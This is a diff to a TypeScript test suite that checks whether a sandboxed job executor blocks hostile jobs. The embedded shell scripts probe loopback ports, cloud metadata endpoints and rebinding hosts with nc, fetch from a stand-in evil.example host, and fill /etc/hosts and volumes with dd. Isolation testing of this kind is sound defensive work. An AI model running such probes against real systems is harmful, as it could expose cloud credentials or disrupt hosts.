@@ -10,6 +10,7 @@ import { DEFAULT_LIMITS, type Job, type JobResult } from "../../src/domain/job.t
 import { openCanaries, type Canaries } from "../../src/executors/canaries.ts";
 import { listParents } from "../../src/executors/cgroup.ts";
 import { createEngineExecutor, type EngineExecutor } from "../../src/executors/engine.ts";
+import { attemptAll } from "../../src/executors/gate-attempt.ts";
 import { freeBytes } from "../../src/lib/disk.ts";
 import { createDownloadCache } from "../../src/network/download-cache.ts";
 import { egressTo, type Egress } from "../../src/network/egress.ts";
@@ -44,7 +45,9 @@ beforeAll(async () => {
   outside.listen(0, OUTSIDE);
   await once(outside, "listening");
   port = (outside.address() as AddressInfo).port;
-  egress = egressTo([`good.example:${port}`, "rebind.example", `rebind.example:${port}`], {
+  // At the canaries' ports too: the address alone must be what is refused.
+  const rebind = canaries.denied.map((canary) => `rebind.example:${canary.port}`);
+  egress = egressTo([`good.example:${port}`, "rebind.example", ...rebind], {
     allowsAddress: (_host, address) =>
       address === OUTSIDE || (isPublicAddress(address) && !isOwnAddress(address)),
     resolve: (host, _options, callback) => {
@@ -69,6 +72,30 @@ describe("this machine", () => {
   it("holds jobs of others: one that tries everything gets through with nothing", async () => {
     expect(await executor.missingForGate()).toStrictEqual([]);
   });
+
+  it("would be found out where it did not: lax limits and open doors are told, each in words", async () => {
+    const lax = (job: Job): Job => ({
+      ...job,
+      services: [...(job.services ?? []), ...loopbackDoors(job)],
+      limits: { ...job.limits, memoryBytes: 512 * MIB, processes: 500, diskBytes: 512 * MIB },
+    });
+    const missing = await attemptAll(image, (job, signal) => executor.run(lax(job), signal));
+    expect(missing.toSorted()).toStrictEqual([
+      "a gated job reaches this machine at 127.0.0.1",
+      "a job's memory has no limit, or swap is used beside it",
+      "a job's processes have no limit",
+      "what a job writes beside its volumes has no limit",
+      "what a job writes to /etc/hosts has no limit",
+      "what a job writes to its volumes has no limit",
+    ]);
+  });
+
+  /** Doors to the servers on 127.0.0.1 that the script tries. */
+  const loopbackDoors = ({ main }: Job) =>
+    [...(main[2] ?? "").matchAll(/^tcp (127\.0\.0\.1) (\d+); udp/gm)].map(([, address, at]) => ({
+      host: `${address}:${at}`,
+      readOnly: false,
+    }));
 });
 
 describe("a job behind the gate", () => {
@@ -88,13 +115,13 @@ describe("a job behind the gate", () => {
       const host = address.includes(":") ? `[${address}]` : address;
       return `
 nc -w 1 ${address} ${at} < /dev/null; echo x | nc -u -w 1 ${address} ${at}
-http_proxy=http://198.18.0.1:3128 wget -q -T 2 -O - http://${host}:${at}/
+printf 'GET http://${host}:${at}/ HTTP/1.0\\r\\n\\r\\n' | nc -w 1 198.18.0.1 3128
 printf 'CONNECT ${host}:${at} HTTP/1.1\r\n\r\nx' | nc -w 1 198.18.0.1 3128
 printf 'GET / HTTP/1.1\r\nHost: ${host}:${at}\r\n\r\n' | nc -w 1 198.18.0.1 80`;
     });
     const metadata = `
 for at in 169.254.169.254:80 [fd00:ec2::254]:80 metadata.google.internal:80; do
-  http_proxy=http://198.18.0.1:3128 wget -q -T 2 -O - http://$at/latest/meta-data/ && echo LEAK
+  printf "GET http://$at/latest/meta-data/ HTTP/1.0\\r\\n\\r\\n" | nc -w 1 198.18.0.1 3128 | grep -q 403 || echo LEAK
   printf "CONNECT $at HTTP/1.1\\r\\n\\r\\n" | nc -w 1 198.18.0.1 3128 | grep -q 200 && echo LEAK
 done
 nc -w 1 169.254.169.254 80 < /dev/null && echo LEAK; nc -w 1 10.0.0.1 80 < /dev/null && echo LEAK
@@ -116,23 +143,24 @@ nc -w 2 127.0.0.1 ${canaries.door.port} < /dev/null`;
 
   it("reaches a listed name, and not where that leads inside afterwards", async () => {
     asked = [];
-    const get = (host: string) => `wget -q -T 2 -O - http://${host}/ 2>&1`;
-    const proxied = `export http_proxy=http://198.18.0.1:3128;`;
-    const first = await executor.run(
-      hostileJob(image, () => proxied + get(`good.example:${port}`)).job,
-      never,
-    );
-    expect(lines(first)).toStrictEqual(["payload of the outside"]);
-    expect(asked).toStrictEqual([`GET good.example:${port}/`]);
+    // An end that is closed at once would have the answer dropped.
+    const say = (text: string, at: number) => `{ printf '${text}'; sleep 0.4; } | nc -w 2 198.18.0.1 ${at}`;
+    const get = (host: string) =>
+      [
+        say(`GET http://${host}/ HTTP/1.0\\r\\n\\r\\n`, 3128),
+        say(`GET / HTTP/1.0\\r\\nHost: ${host}\\r\\n\\r\\n`, 80),
+      ].join("; ");
+    const first = await executor.run(hostileJob(image, () => get(`good.example:${port}`)).job, never);
+    expect(lines(first).filter((line) => line === "payload of the outside").length).toBe(2);
+    expect(asked).toStrictEqual([`GET good.example:${port}/`, `GET good.example:${port}/`]);
     for (const { address, port: at } of [...canaries.denied, { address: "169.254.169.254", port: 80 }]) {
       names.set("rebind.example", address);
-      const script = `${proxied} ${get(`rebind.example:${port}`)}; unset http_proxy; ${get("rebind.example")}`;
-      const result = await executor.run(hostileJob(image, () => script).job, never);
-      expect(lines(result).filter((line) => line.includes("403")).length).toBe(2);
-      expect(at).toBeGreaterThan(0);
+      const hosts = ["rebind.example", `rebind.example:${at}`];
+      const result = await executor.run(hostileJob(image, () => hosts.map(get).join("; ")).job, never);
+      expect(lines(result).filter((line) => line.includes(" 403 ")).length).toBe(4);
     }
     expect(heard()).toStrictEqual(NOTHING_HEARD());
-    expect(asked.length).toBe(1);
+    expect(asked.length).toBe(2);
   });
 
   it("fills its own disk and no other", async () => {
@@ -144,7 +172,7 @@ nc -w 2 127.0.0.1 ${canaries.door.port} < /dev/null`;
     }, 50);
     const fill = (path: string) => `dd if=/dev/zero of=${path} bs=1M count=400 2>&1 | grep -c 'No space'`;
     const paths = ["/fill", "/work/fill", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/tmp/fill"];
-    const script = `mkdir -p /tmp; ${paths.map((path) => `${fill(path)}; rm -f ${path} || : > ${path}`).join("; ")}; df -m / | tail -n 1`;
+    const script = `mkdir -p /tmp; ${paths.map((path) => `${fill(path)}; rm -f ${path} 2> /dev/null || : > ${path}`).join("; ")}; df -m / | tail -n 1`;
     const result = await executor.run(hostileJob(image, () => script).job, never);
     clearInterval(timer);
     expect(lines(result).slice(0, paths.length)).toStrictEqual(paths.map(() => "1"));
@@ -249,12 +277,13 @@ describe("kaniko behind the gate", () => {
     });
     const registry = await live.startRegistry("live-gate");
     try {
-      const write = `wget -q -T 3 -O - --post-data= http://${live.baseHost}/v2/library/busybox/blobs/uploads/ 2>&1 | grep -q 403`;
+      const [address, at] = (live.baseHost ?? "").split(":");
+      const write = `printf 'POST /v2/library/busybox/blobs/uploads/ HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${address} ${at} | grep -q ' 403 '`;
       const dockerfile = [
         "FROM docker.io/library/busybox:1.36",
         `RUN wget -q -O /payload http://good.example:${port}/payload`,
         `RUN ! wget -q -T 3 -O /leak http://evil.example:${port}/payload`,
-        `RUN env -u http_proxy -u HTTP_PROXY sh -c '${write}'`,
+        `RUN ${write}`,
         "",
       ].join("\n");
       const build = kanikoBuild(registry.host, downloads.address, dockerfile);
